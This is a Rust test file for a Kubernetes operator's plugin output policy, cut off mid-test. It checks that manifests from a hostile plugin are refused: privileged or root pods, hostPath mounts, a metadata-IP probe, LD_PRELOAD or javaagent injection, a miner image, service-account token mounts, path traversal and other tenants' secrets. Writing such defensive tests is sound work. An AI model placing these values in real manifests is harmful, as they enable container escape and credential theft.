//! The output policy against the attacks a hostile plugin tried, each refused with the rule named.
//! (The same attacks run through real WebAssembly plugins in `host/tests/hostile.rs`.)

use super::*;
use crate::kinds::{CAP_NFS_VOLUME, CAP_PERSISTENT_VOLUME};
use ecs_plugin_sdk::testing;
use ecs_plugin_sdk::{EnvVar, SecretEnv, Tier2Wiring};
use serde_json::json;

const UID: &str = "6c1a0f5e-0000-4000-8000-000000000001";

fn cluster() -> Cluster {
    testing::cluster().name("ecs").namespace("prod").uid(UID).build()
}

fn components() -> BTreeSet<String> {
    ["bookie", "ecs-controller", "ecs-node", "tier2"].map(String::from).into()
}

/// Runs `f` with a context for `role` (a reconciler's name, or `tier2`) of `cluster`.
fn with_ctx<T>(cluster: &Cluster, role: &str, granted: &[&str], f: impl FnOnce(&PolicyContext<'_>) -> T) -> T {
    let granted: BTreeSet<String> = granted.iter().map(|s| s.to_string()).collect();
    let components = components();
    let siblings = vec!["ecs-x".to_string()];
    let role = Role::reconciler(role).unwrap_or(Role::Tier2 { component: "tier2".into() });
    let plugin = if matches!(role, Role::Tier2 { .. }) { "tier2-evil" } else { "evil" };
    let ctx = PolicyContext {
        cluster,
        plugin,
        role,
        granted: &granted,
        siblings: &siblings,
        components: &components,
        wiring_volumes: &[],
    };
    f(&ctx)
}

fn run(role: &str, object: Value) -> Result<Vec<Emitted>, PolicyViolation> {
    with_ctx(&cluster(), role, &[], |ctx| enforce(ctx, vec![object]))
}

/// The violation `object` causes; panics if the policy lets it through.
fn refused(role: &str, object: Value) -> PolicyViolation {
    match run(role, object) {
        Ok(out) => panic!("the policy let it through: {:#}", out[0].object),
        Err(v) => v,
    }
}

/// Asserts that `object` is refused with a finding of `rule` whose text contains `text`.
fn assert_refused(role: &str, object: Value, rule: Rule, text: &str) {
    let v = refused(role, object);
    assert!(
        v.findings.iter().any(|f| f.rule == rule && f.to_string().contains(text)),
        "expected [{rule}] ...{text}..., got: {v}"
    );
    assert!(v.to_string().contains(&format!("plugin {}", v.plugin)), "{v}");
}

fn labels(component: &str) -> Value {
    json!({"app": "ecs-cluster", "ecs_cluster": "ecs", "component": component})
}

/// A pod template that meets Pod Security "restricted" and every rule of the operator.
fn pod(component: &str, image: &str) -> Value {
    json!({
        "metadata": {"labels": labels(component)},
        "spec": {
            "securityContext": {"runAsNonRoot": true, "runAsUser": 10000, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [{
                "name": "c",
                "image": image,
                "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
                "resources": {"requests": {"cpu": "500m", "memory": "1Gi"}},
                "volumeMounts": [{"name": "ledger", "mountPath": "/bk/ledgers"}]
            }]
        }
    })
}

/// The bookkeeper's StatefulSet, compliant, after `edit`.
fn sts(edit: impl FnOnce(&mut Value)) -> Value {
    let mut o = json!({
        "apiVersion": "apps/v1", "kind": "StatefulSet",
        "metadata": {"name": "ecs-bookie", "labels": labels("bookie")},
        "spec": {
            "replicas": 3,
            "serviceName": "ecs-bookie-headless",
            "selector": {"matchLabels": labels("bookie")},
            "template": pod("bookie", "ecs/bookkeeper:0.4.0"),
            "volumeClaimTemplates": [{"metadata": {"name": "ledger", "labels": labels("bookie")},
                "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Gi"}}}}]
        }
    });
    edit(&mut o);
    o
}

fn pod_spec(o: &mut Value) -> &mut Value {
    &mut o["spec"]["template"]["spec"]
}

fn cm(name: &str, data: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": data})
}

fn service(name: &str, spec: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": name}, "spec": spec})
}

#[test]
fn an_honest_plan_passes_and_is_stamped() {
    let out = run("bookkeeper", sts(|_| {})).unwrap_or_else(|v| panic!("{v}"));
    let o = &out[0].object;
    assert_eq!(o["metadata"]["namespace"], "prod");
    assert_eq!(o["metadata"]["labels"]["app.kubernetes.io/managed-by"], "ecs-operator");
    assert_eq!(o["metadata"]["ownerReferences"][0]["uid"], UID);
    assert_eq!(o["metadata"]["ownerReferences"][0]["controller"], true);
    assert_eq!(o["spec"]["template"]["metadata"]["labels"], labels("bookie"));
    assert_eq!((out[0].plugin.as_str(), out[0].component.as_str()), ("evil", "bookie"));
}

#[test]
fn offline_renders_have_no_owner() {
    let offline = testing::cluster().name("ecs").namespace("prod").build();
    let out = with_ctx(&offline, "bookkeeper", &[], |ctx| enforce(ctx, vec![cm("ecs-bookie", json!({}))])).unwrap();
    assert!(out[0].object["metadata"].get("ownerReferences").is_none());
}

#[test]
fn kinds_follow_the_role() {
    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "ecs-bookie-x"}});
    assert_refused("bookkeeper", deployment.clone(), Rule::Kinds, "the bookkeeper reconciler may emit");
    let tier2_deploy = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "ecs-tier2-x"}});
    assert_refused("tier2", tier2_deploy, Rule::Kinds, "a Tier-2 provider may emit");
    assert_refused("tier2", service("ecs-tier2", json!({})), Rule::Kinds, "Service is not one");
    for (api_version, kind) in [("v1", "Secret"), ("v1", "Pod"), ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding")]
    {
        let o = json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "ecs-bookie-x"}});
        assert_refused("bookkeeper", o, Rule::Kinds, kind);
    }
    // The right kind under another API version is not the managed kind.
    let old_pdb =
        json!({"apiVersion": "policy/v1beta1", "kind": "PodDisruptionBudget", "metadata": {"name": "ecs-bookie"}});
    assert_refused("bookkeeper", old_pdb, Rule::Kinds, "policy/v1beta1");
    let v = refused("bookkeeper", json!("text"));
    assert!(v.reason.contains("not a JSON object"), "{v}");
}

#[test]
fn persistent_volumes_need_their_capability_and_get_an_owner_annotation() {
    let pv = json!({"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "ecs-prod-tier2"},
        "spec": {"nfs": {"server": "10.0.0.2", "path": "/vol1"}, "claimRef": {"namespace": "prod", "name": "ecs-tier2"}}});
    assert_refused("tier2", pv.clone(), Rule::Capabilities, CAP_PERSISTENT_VOLUME);
    let out = with_ctx(&cluster(), "tier2", &[CAP_PERSISTENT_VOLUME], |ctx| enforce(ctx, vec![pv.clone()])).unwrap();
    let meta = &out[0].object["metadata"];
    assert!(meta.get("namespace").is_none() && meta.get("ownerReferences").is_none(), "{meta}");
    assert_eq!(meta["annotations"][OWNER_UID_ANNOTATION], UID);
    // Any CSI driver, or a claim in another namespace: refused even when granted.
    let mut csi = pv.clone();
    csi["spec"] = json!({"csi": {"driver": "hostpath.csi.k8s.io", "volumeHandle": "/"},
        "claimRef": {"namespace": "prod", "name": "ecs-tier2"}});
    let v = with_ctx(&cluster(), "tier2", &[CAP_PERSISTENT_VOLUME], |ctx| enforce(ctx, vec![csi])).unwrap_err();
    assert!(v.breaks(Rule::AllowedFields) && v.reason.contains("spec.csi"), "{v}");
    let mut foreign = pv;
    foreign["spec"]["claimRef"]["namespace"] = json!("kube-system");
    let v = with_ctx(&cluster(), "tier2", &[CAP_PERSISTENT_VOLUME], |ctx| enforce(ctx, vec![foreign])).unwrap_err();
    assert!(v.breaks(Rule::References) && v.reason.contains("claimRef.namespace"), "{v}");
}

#[test]
fn names_stay_within_the_cluster_and_component() {
    assert_refused("bookkeeper", cm("other-bookie", json!({})), Rule::Names, "does not begin with \"ecs-bookie\"");
    // The node's prefix is not the bookkeeper's.
    assert_refused("bookkeeper", cm("ecs-ecs-node", json!({})), Rule::Names, "does not begin with \"ecs-bookie\"");
    // `ecs-x-ecs-node` is cluster ecs-x's node.
    assert_refused("node", cm("ecs-x-ecs-node", json!({})), Rule::Names, "does not begin with \"ecs-ecs-node\"");
    let x = testing::cluster().name("ecs").namespace("prod").uid(UID).build();
    let v = with_ctx(&x, "tier2", &[], |ctx| {
        // Cluster ecs's tier2 names begin with ecs-tier2; with cluster ecs-tier2 present... not a sibling here.
        enforce(ctx, vec![cm("ecs-tier2-bookie", json!({}))])
    });
    assert!(v.is_ok(), "no sibling named ecs-tier2: {v:?}");
    let mut other = cm("ecs-bookie", json!({}));
    other["metadata"]["namespace"] = json!("kube-system");
    assert_refused("bookkeeper", other, Rule::Names, "\"kube-system\" is not the cluster's namespace");
    assert_refused("bookkeeper", cm("ecs-bookie-", json!({})), Rule::Names, "not a valid DNS name");
}

#[test]
fn a_sibling_clusters_names_are_refused() {
    // Cluster `ecs` in a namespace that also holds `ecs-x`: `ecs-x-ecs-node` is ecs-x's even though it
    // would begin with `ecs-` ... and with component `x` it would begin with `ecs-x`.
    let c = cluster();
    let components: BTreeSet<String> = ["bookie", "ecs-node", "x"].map(String::from).into();
    let siblings = vec!["ecs-x".to_string()];
    let granted = BTreeSet::new();
    let ctx = PolicyContext {
        cluster: &c,
        plugin: "tier2-x",
        role: Role::Tier2 { component: "x".into() },
        granted: &granted,
        siblings: &siblings,
        components: &components,
        wiring_volumes: &[],
    };
    assert!(enforce(&ctx, vec![cm("ecs-x", json!({}))]).is_ok());
    let v = enforce(&ctx, vec![cm("ecs-x-ecs-node", json!({}))]).unwrap_err();
    assert!(v.breaks(Rule::Names) && v.reason.contains("cluster \"ecs-x\"'s"), "{v}");
}

#[test]
fn membership_labels_are_the_hosts() {
    let mut relabelled = cm("ecs-bookie", json!({}));
    relabelled["metadata"]["labels"] = json!({"ecs_cluster": "ecs-x"});
    assert_refused("bookkeeper", relabelled, Rule::Labels, "set by the host");
    let mut extra = cm("ecs-bookie", json!({}));
    extra["metadata"]["labels"] = json!({"role": "frontend"});
    assert_refused("bookkeeper", extra, Rule::Labels, "not a label a plugin may set");
    // Pods labelled as another cluster's members would join its Services.
    let member = sts(|o| o["spec"]["template"]["metadata"]["labels"]["ecs_cluster"] = json!("ecs-x"));
    assert_refused("bookkeeper", member, Rule::Labels, "template.metadata.labels[ecs_cluster]");
    let pod_name = sts(|o| {
        o["spec"]["template"]["metadata"]["labels"]["statefulset.kubernetes.io/pod-name"] = json!("ecs-x-ecs-node-0")
    });
    assert_refused("bookkeeper", pod_name, Rule::Labels, "statefulset.kubernetes.io/pod-name");
    let annotated = sts(|o| o["spec"]["template"]["metadata"]["annotations"] = json!({"ecs.ecs.io/config-hash": "x"}));
    assert_refused("bookkeeper", annotated, Rule::Annotations, "not a plugin's to set");
}

#[test]
fn host_owned_metadata_is_refused() {
    for field in ["ownerReferences", "finalizers", "managedFields", "generateName", "uid"] {
        let mut o = cm("ecs-bookie", json!({}));
        o["metadata"][field] = json!([]);
        assert_refused("bookkeeper", o, Rule::AllowedFields, &format!("metadata.{field}: is not an allowed field"));
    }
    for field in ["finalizers", "ownerReferences", "managedFields"] {
        let o = sts(|o| o["spec"]["template"]["metadata"][field] = json!([]));
        assert_refused("bookkeeper", o, Rule::AllowedFields, &format!("spec.template.metadata.{field}"));
    }
}

#[test]
fn selectors_select_only_this_clusters_pods() {
    let others = sts(|o| o["spec"]["selector"]["matchLabels"] = json!({"app": "web"}));
    assert_refused("bookkeeper", others, Rule::Selectors, "must include ecs_cluster");
    let expressions =
        sts(|o| o["spec"]["selector"] = json!({"matchExpressions": [{"key": "app", "operator": "Exists"}]}));
    assert_refused("bookkeeper", expressions, Rule::AllowedFields, "matchExpressions");
    let pdb = json!({"apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": {"name": "ecs-bookie"},
        "spec": {"maxUnavailable": 0, "selector": {}}});
    assert_refused("bookkeeper", pdb, Rule::Selectors, "must select by label");
    let svc = service("ecs-bookie-headless", json!({"clusterIP": "None", "selector": {"app": "web"}}));
    assert_refused("bookkeeper", svc, Rule::Selectors, "must include ecs_cluster");
    let affinity = sts(|o| {
        pod_spec(o)["affinity"] = json!({"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
            {"labelSelector": {"matchLabels": {"app": "database"}}, "topologyKey": "kubernetes.io/hostname"}]}})
    });
    assert_refused("bookkeeper", affinity, Rule::Selectors, "affinity.podAffinity");
}

#[test]
fn services_expose_only_what_the_spec_asks() {
    let lb = service("ecs-bookie-x", json!({"type": "LoadBalancer", "selector": labels("bookie")}));
    assert_refused("bookkeeper", lb.clone(), Rule::Services, "spec.externalAccess");
    let mut annotated = lb;
    annotated["metadata"]["annotations"] = json!({"service.beta.kubernetes.io/aws-load-balancer-internal": "false"});
    assert_refused("bookkeeper", annotated, Rule::Annotations, "aws-load-balancer-internal");
    for type_ in ["externalName", "ExternalName", "EXTERNALNAME"] {
        let o = service("ecs-bookie-x", json!({"type": type_, "externalName": "evil.example.com"}));
        assert_refused("bookkeeper", o, Rule::AllowedFields, "spec.type");
    }
    let ips = service("ecs-bookie-x", json!({"selector": labels("bookie"), "externalIPs": ["1.2.3.4"]}));
    assert_refused("bookkeeper", ips, Rule::AllowedFields, "spec.externalIPs");
    let ip = service("ecs-bookie-x", json!({"selector": labels("bookie"), "clusterIP": "10.0.0.10"}));
    assert_refused("bookkeeper", ip, Rule::AllowedFields, "spec.clusterIP");
    // With externalAccess, LoadBalancer Services and names under the domain are the spec's wish.
    let exposed = testing::cluster()
        .name("ecs")
        .namespace("prod")
        .uid(UID)
        .patch(
            json!({"externalAccess": {"enabled": true, "type": "LoadBalancer", "domainName": "streams.example.com"}}),
        )
        .build();
    let mut svc = service("ecs-ecs-node-0", json!({"type": "LoadBalancer", "selector": labels("ecs-node")}));
    svc["metadata"]["annotations"] =
        json!({"external-dns.alpha.kubernetes.io/hostname": "ecs-ecs-node-0.streams.example.com."});
    with_ctx(&exposed, "node", &[], |ctx| enforce(ctx, vec![svc.clone()])).unwrap_or_else(|v| panic!("{v}"));
    svc["metadata"]["annotations"]["external-dns.alpha.kubernetes.io/hostname"] = json!("www.bank.example.");
    let v = with_ctx(&exposed, "node", &[], |ctx| enforce(ctx, vec![svc])).unwrap_err();
    assert!(v.breaks(Rule::Annotations), "{v}");
}

#[test]
fn pod_template_fields_outside_the_allow_list_are_refused() {
    let cases: Vec<(&str, Value)> = vec![
        ("nodeName", json!("control-plane-1")),
        ("hostAliases", json!([{"ip": "1.2.3.4", "hostnames": ["kubernetes.default"]}])),
        ("shareProcessNamespace", json!(true)),
        ("ephemeralContainers", json!([{"name": "x", "image": "ecs/bookkeeper:0.4.0"}])),
        ("hostNetwork", json!(true)),
        ("hostPID", json!(true)),
        ("runtimeClassName", json!("privileged")),
        ("schedulerName", json!("mine")),
        ("nodeSelector", json!({"kubernetes.io/hostname": "n1"})),
        ("os", json!({"name": "windows"})),
        ("dnsConfig", json!({"nameservers": ["8.8.8.8"]})),
    ];
    for (field, value) in cases {
        let o = sts(|o| pod_spec(o)[field] = value);
        assert_refused(
            "bookkeeper",
            o,
            Rule::AllowedFields,
            &format!("spec.template.spec.{field}: is not an allowed field"),
        );
    }
    let sysctls = sts(|o| pod_spec(o)["securityContext"]["sysctls"] = json!([{"name": "kernel.msgmax", "value": "1"}]));
    assert_refused("bookkeeper", sysctls, Rule::AllowedFields, "securityContext.sysctls");
    let node_affinity = sts(|o| pod_spec(o)["affinity"] = json!({"nodeAffinity": {}}));
    assert_refused("bookkeeper", node_affinity, Rule::AllowedFields, "affinity.nodeAffinity");
    let windows =
        sts(|o| pod_spec(o)["containers"][0]["securityContext"]["windowsOptions"] = json!({"hostProcess": true}));
    assert_refused("bookkeeper", windows, Rule::AllowedFields, "windowsOptions");
    let http_host = sts(|o| {
        pod_spec(o)["containers"][0]["readinessProbe"] = json!({"httpGet": {"host": "169.254.169.254", "port": 80}})
    });
    assert_refused("bookkeeper", http_host, Rule::AllowedFields, "httpGet.host");
}

#[test]
fn values_must_have_their_exact_types() {
    let float_root = sts(|o| pod_spec(o)["securityContext"]["runAsUser"] = json!(0.0));
    assert_refused("bookkeeper", float_root, Rule::AllowedFields, "runAsUser: must be an integer");
    let string_true = sts(|o| pod_spec(o)["containers"][0]["securityContext"]["privileged"] = json!("true"));
    assert_refused("bookkeeper", string_true, Rule::AllowedFields, "privileged: must be a boolean");
    let procmount = sts(|o| pod_spec(o)["containers"][0]["securityContext"]["procMount"] = json!("Unmasked"));
    assert_refused("bookkeeper", procmount, Rule::AllowedFields, "procMount");
    let unconfined = sts(|o| pod_spec(o)["securityContext"]["seccompProfile"]["type"] = json!("Unconfined"));
    assert_refused("bookkeeper", unconfined, Rule::AllowedFields, "seccompProfile.type");
    let apparmor = sts(|o| pod_spec(o)["securityContext"]["appArmorProfile"] = json!({"type": "Unconfined"}));
    assert_refused("bookkeeper", apparmor, Rule::AllowedFields, "appArmorProfile.type");
    let caps = sts(|o| pod_spec(o)["containers"][0]["securityContext"]["capabilities"]["add"] = json!(["SYS_ADMIN"]));
    assert_refused("bookkeeper", caps, Rule::AllowedFields, "capabilities.add[0]");
}

#[test]
fn pod_security_restricted_is_the_floor() {
    let privileged = sts(|o| pod_spec(o)["containers"][0]["securityContext"]["privileged"] = json!(true));
    let v = refused("bookkeeper", privileged);
    assert!(v.findings.iter().any(|f| matches!(f.rule, Rule::PodSecurity("privileged"))), "{v}");
    let bare = sts(|o| {
        pod_spec(o).as_object_mut().unwrap().remove("securityContext");
        pod_spec(o)["containers"][0].as_object_mut().unwrap().remove("securityContext");
    });
    let v = refused("bookkeeper", bare);
    let checks: BTreeSet<&str> =
        v.findings.iter().filter_map(|f| if let Rule::PodSecurity(c) = f.rule { Some(c) } else { None }).collect();
    for check in
        ["allowPrivilegeEscalation != false", "unrestricted capabilities", "runAsNonRoot != true", "seccompProfile"]
    {
        assert!(checks.contains(check), "{check} missing from {checks:?}");
    }
    assert!(v.to_string().contains("[pod-security: "), "{v}");
    let root = sts(|o| pod_spec(o)["containers"][0]["securityContext"]["runAsUser"] = json!(0));
    let v = refused("bookkeeper", root);
    assert!(v.findings.iter().any(|f| matches!(f.rule, Rule::PodSecurity("runAsUser=0"))), "{v}");
}

#[test]
fn the_operators_own_pod_rules() {
    let blanket = sts(|o| pod_spec(o)["tolerations"] = json!([{"operator": "Exists"}]));
    assert_refused("bookkeeper", blanket, Rule::Pods, "tolerates every taint");
    let control_plane = sts(|o| {
        pod_spec(o)["tolerations"] = json!([{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}])
    });
    assert_refused("bookkeeper", control_plane, Rule::Pods, "may not tolerate");
    let priority = sts(|o| pod_spec(o)["priorityClassName"] = json!("system-node-critical"));
    assert_refused("bookkeeper", priority, Rule::Pods, "reserved for the cluster's own components");
    let token = sts(|o| {
        pod_spec(o)["containers"][0]["volumeMounts"] =
            json!([{"name": "ledger", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}])
    });
    assert_refused("bookkeeper", token, Rule::Pods, "is reserved");
    let escape = sts(|o| {
        pod_spec(o)["containers"][0]["volumeMounts"] =
            json!([{"name": "ledger", "mountPath": "/bk/ledgers", "subPath": "../../../"}])
    });
    assert_refused("bookkeeper", escape, Rule::Pods, "subPath");
    let dotdot = sts(|o| pod_spec(o)["containers"][0]["volumeMounts"][0]["mountPath"] = json!("/bk/../proc"));
    assert_refused("bookkeeper", dotdot, Rule::Pods, "plain path");
    let preload = sts(|o| pod_spec(o)["containers"][0]["env"] = json!([{"name": "LD_PRELOAD", "value": "/x.so"}]));
    assert_refused("bookkeeper", preload, Rule::Pods, "LD_PRELOAD is reserved");
    let agent =
        sts(|o| pod_spec(o)["containers"][0]["env"] = json!([{"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:/x"}]));
    assert_refused("bookkeeper", agent, Rule::Pods, "JAVA_TOOL_OPTIONS is reserved");
    let gpu = sts(|o| pod_spec(o)["containers"][0]["resources"]["limits"] = json!({"nvidia.com/gpu": 8}));
    assert_refused("bookkeeper", gpu, Rule::AllowedFields, "only cpu, memory");
    let huge = sts(|o| pod_spec(o)["containers"][0]["resources"]["requests"]["memory"] = json!("100Pi"));
    assert_refused("bookkeeper", huge, Rule::Bounds, "more than 4Ti");
    let replicas = sts(|o| o["spec"]["replicas"] = json!(100_000));
    assert_refused("bookkeeper", replicas, Rule::Bounds, "spec.replicas: is 100000");
    let image = sts(|o| pod_spec(o)["containers"][0]["image"] = json!("evil.example.com/miner:latest"));
    assert_refused("bookkeeper", image, Rule::References, "not an image of the repository");
    let lookalike = sts(|o| pod_spec(o)["containers"][0]["image"] = json!("ecs/bookkeeper-evil:1"));
    assert_refused("bookkeeper", lookalike, Rule::References, "not an image of the repository");
    let account = sts(|o| pod_spec(o)["serviceAccountName"] = json!("ecs-operator"));
    assert_refused("bookkeeper", account, Rule::References, "service account");
    let pull = sts(|o| pod_spec(o)["imagePullSecrets"] = json!([{"name": "other-tenant-registry"}]));
    assert_refused("bookkeeper", pull, Rule::References, "image pull secrets");
}

#[test]
fn volume_sources_are_an_allow_list() {
    let cases = [
        ("hostPath", json!({"path": "/"})),
        ("gitRepo", json!({"repository": "https://example.com/x.git"})),
        ("flexVolume", json!({"driver": "x/y"})),
        ("iscsi", json!({"targetPortal": "1.2.3.4", "iqn": "x", "lun": 0})),
        ("image", json!({"reference": "evil/payload:1"})),
        ("csi", json!({"driver": "hostpath.csi.k8s.io"})),
    ];
    for (source, value) in cases {
        let o = sts(|o| pod_spec(o)["volumes"] = json!([{"name": "v", source: value}]));
        assert_refused("bookkeeper", o, Rule::AllowedFields, &format!("volumes[0].{source}: is not an allowed field"));
    }
    let token = sts(|o| {
        pod_spec(o)["volumes"] = json!([{"name": "t", "projected": {"sources": [
            {"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}]}}])
    });
    assert_refused("bookkeeper", token, Rule::AllowedFields, "serviceAccountToken");
    let nfs = sts(|o| pod_spec(o)["volumes"] = json!([{"name": "n", "nfs": {"server": "s", "path": "/"}}]));
    assert_refused("bookkeeper", nfs, Rule::Capabilities, CAP_NFS_VOLUME);
    let two =
        sts(|o| pod_spec(o)["volumes"] = json!([{"name": "v", "emptyDir": {}, "configMap": {"name": "ecs-bookie"}}]));
    assert_refused("bookkeeper", two, Rule::AllowedFields, "exactly one volume source");
}

/// Runs the plan-wide checks on objects that each passed [`enforce`] for `role`.
fn plan(objects: Vec<(&str, Value)>) -> Result<(), PolicyViolation> {
    let c = cluster();
    let mut emitted = Vec::new();
    for (role, o) in objects {
        let granted = [CAP_PERSISTENT_VOLUME];
        emitted.extend(with_ctx(&c, role, &granted, |ctx| enforce(ctx, vec![o])).unwrap_or_else(|v| panic!("{v}")));
    }
    check_plan(&c, &emitted)
}

fn assert_plan_refused(objects: Vec<(&str, Value)>, text: &str) {
    let v = plan(objects).expect_err("the plan should be refused");
    assert!(v.breaks(Rule::References) || v.breaks(Rule::Plan) || v.breaks(Rule::Pods), "{v}");
    assert!(v.to_string().contains(text), "expected {text:?} in {v}");
}

#[test]
fn references_are_to_the_plan_or_the_spec() {
    let headless = service("ecs-bookie-headless", json!({"clusterIP": "None", "selector": labels("bookie")}));
    plan(vec![("bookkeeper", sts(|_| {})), ("bookkeeper", headless.clone())]).unwrap_or_else(|v| panic!("{v}"));
    assert_plan_refused(
        vec![("bookkeeper", sts(|_| {}))],
        "Service \"ecs-bookie-headless\" is not one the plan creates",
    );
    let secret = sts(|o| pod_spec(o)["volumes"] = json!([{"name": "s", "secret": {"secretName": "other-tenant-db"}}]));
    assert_plan_refused(vec![("bookkeeper", secret), ("bookkeeper", headless.clone())], "Secret \"other-tenant-db\"");
    let claim =
        sts(|o| pod_spec(o)["volumes"] = json!([{"name": "c", "persistentVolumeClaim": {"claimName": "ecs-x-tier2"}}]));
    assert_plan_refused(vec![("bookkeeper", claim), ("bookkeeper", headless.clone())], "\"ecs-x-tier2\" is neither");
    let env = sts(|o| {
        pod_spec(o)["containers"][0]["env"] =
            json!([{"name": "P", "valueFrom": {"secretKeyRef": {"name": "other-tenant-db", "key": "password"}}}])
    });
    assert_plan_refused(vec![("bookkeeper", env), ("bookkeeper", headless.clone())], "secretKeyRef");
    let config =
        sts(|o| pod_spec(o)["containers"][0]["envFrom"] = json!([{"configMapRef": {"name": "kube-root-ca.crt"}}]));
    assert_plan_refused(vec![("bookkeeper", config), ("bookkeeper", headless.clone())], "\"kube-root-ca.crt\"");
    // The spec's claim and the plan's own ConfigMap are fine; a ConfigMap read as environment may
    // not set variables that load code.
    let ok = sts(|o| {
        pod_spec(o)["volumes"] = json!([{"name": "t", "persistentVolumeClaim": {"claimName": "ecs-tier2"}}]);
        pod_spec(o)["containers"][0]["envFrom"] = json!([{"configMapRef": {"name": "ecs-bookie"}}]);
    });
    let own_cm = cm("ecs-bookie", json!({"BK_x": "1"}));
    plan(vec![("bookkeeper", ok.clone()), ("bookkeeper", headless.clone()), ("bookkeeper", own_cm)]).unwrap();
    let preload = cm("ecs-bookie", json!({"LD_PRELOAD": "/tmp/x.so"}));
    assert_plan_refused(
        vec![("bookkeeper", ok), ("bookkeeper", headless.clone()), ("bookkeeper", preload)],
        "LD_PRELOAD",
    );
}

#[test]
fn claims_bind_only_volumes_of_the_plan() {
    let headless = service("ecs-bookie-headless", json!({"clusterIP": "None", "selector": labels("bookie")}));
    let claim = |spec: Value| json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "ecs-tier2"}, "spec": spec});
    assert_plan_refused(vec![("tier2", claim(json!({"volumeName": "someone-elses"})))], "binds an existing volume");
    assert_plan_refused(vec![("tier2", claim(json!({"selector": {"matchLabels": {"tenant": "b"}}})))], "binds");
    assert_plan_refused(
        vec![("tier2", claim(json!({"dataSource": {"kind": "PersistentVolumeClaim", "name": "other-db"}})))],
        "binds",
    );
    let template = sts(|o| o["spec"]["volumeClaimTemplates"][0]["spec"]["volumeName"] = json!("pv-of-tenant-b"));
    assert_plan_refused(vec![("bookkeeper", template), ("bookkeeper", headless.clone())], "volumeClaimTemplates[0]");
    let ephemeral = sts(|o| {
        pod_spec(o)["volumes"] = json!([{"name": "e", "ephemeral": {"volumeClaimTemplate": {"spec": {
            "volumeName": "pv-of-tenant-b", "accessModes": ["ReadWriteOnce"]}}}}])
    });
    assert_plan_refused(vec![("bookkeeper", ephemeral), ("bookkeeper", headless)], "ephemeral");
    // A claim of the volume the plan creates is the Filestore provider's job.
    let pv = json!({"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "ecs-prod-tier2"},
        "spec": {"nfs": {"server": "10.0.0.2", "path": "/vol1"}, "claimRef": {"namespace": "prod", "name": "ecs-tier2"}}});
    plan(vec![("tier2", pv.clone()), ("tier2", claim(json!({"volumeName": "ecs-prod-tier2"})))]).unwrap();
    let mut stray = pv;
    stray["spec"]["claimRef"]["name"] = json!("ecs-x-tier2");
    assert_plan_refused(vec![("tier2", stray)], "\"ecs-x-tier2\" is not a claim the plan creates");
}

#[test]
fn plans_hold_each_object_once() {
    let v = plan(vec![("bookkeeper", cm("ecs-bookie", json!({}))), ("bookkeeper", cm("ecs-bookie", json!({})))]);
    assert!(v.unwrap_err().reason.contains("already emitted it"));
}

fn wiring_refused(wiring: Tier2Wiring, granted: &[&str], rule: Rule, text: &str) {
    let c = cluster();
    let v = with_ctx(&c, "tier2", granted, |ctx| check_wiring(ctx, &wiring, &[])).expect_err("refused");
    assert_eq!(v.plugin, "tier2-evil", "the provider is named: {v}");
    assert!(v.to_string().contains("plugin tier2-evil emitted its Tier-2 wiring"), "{v}");
    assert!(v.findings.iter().any(|f| f.rule == rule && f.to_string().contains(text)), "[{rule}] {text}: {v}");
}

fn mounted(volume: Value) -> Tier2Wiring {
    Tier2Wiring {
        volumes: vec![volume],
        mounts: vec![json!({"name": "tier2", "mountPath": "/mnt/tier2"})],
        ..Default::default()
    }
}

#[test]
fn tier2_wiring_uses_only_what_the_spec_names() {
    let ok = mounted(json!({"name": "tier2", "persistentVolumeClaim": {"claimName": "ecs-tier2"}}));
    with_ctx(&cluster(), "tier2", &[], |ctx| check_wiring(ctx, &ok, &[])).unwrap_or_else(|v| panic!("{v}"));
    let secret = mounted(json!({"name": "tier2", "secret": {"secretName": "other-tenant-db"}}));
    wiring_refused(secret, &[], Rule::References, "Secret \"other-tenant-db\" is not named in the spec");
    let claim = mounted(json!({"name": "tier2", "persistentVolumeClaim": {"claimName": "ecs-x-tier2"}}));
    wiring_refused(claim, &[], Rule::References, "\"ecs-x-tier2\" is neither");
    let env = Tier2Wiring {
        secret_env: vec![SecretEnv { secret_name: "other-tenant-db".into(), prefix: "EXTENDEDS3_".into() }],
        ..Default::default()
    };
    wiring_refused(env, &[], Rule::References, "other-tenant-db");
    for (source, value) in [
        ("csi", json!({"driver": "hostpath.csi.k8s.io", "volumeAttributes": {"path": "/"}})),
        ("flexVolume", json!({"driver": "x/y"})),
        ("gitRepo", json!({"repository": "https://example.com/x.git"})),
        ("image", json!({"reference": "evil/payload:1"})),
        ("iscsi", json!({"targetPortal": "1.2.3.4", "iqn": "x", "lun": 0})),
        ("hostPath", json!({"path": "/"})),
    ] {
        wiring_refused(mounted(json!({"name": "tier2", source: value})), &[], Rule::AllowedFields, source);
    }
    let token = mounted(json!({"name": "tier2", "projected": {"sources": [
        {"serviceAccountToken": {"audience": "storage.googleapis.com", "path": "t"}}]}}));
    wiring_refused(token, &[], Rule::AllowedFields, "serviceAccountToken");
    let nfs = mounted(json!({"name": "tier2", "nfs": {"server": "10.0.0.2", "path": "/"}}));
    wiring_refused(nfs.clone(), &[], Rule::Capabilities, CAP_NFS_VOLUME);
    with_ctx(&cluster(), "tier2", &[CAP_NFS_VOLUME], |ctx| check_wiring(ctx, &nfs, &[])).unwrap();
}

#[test]
fn tier2_mounts_settings_and_jvm_options_are_allow_listed() {
    let claim = json!({"name": "tier2", "persistentVolumeClaim": {"claimName": "ecs-tier2"}});
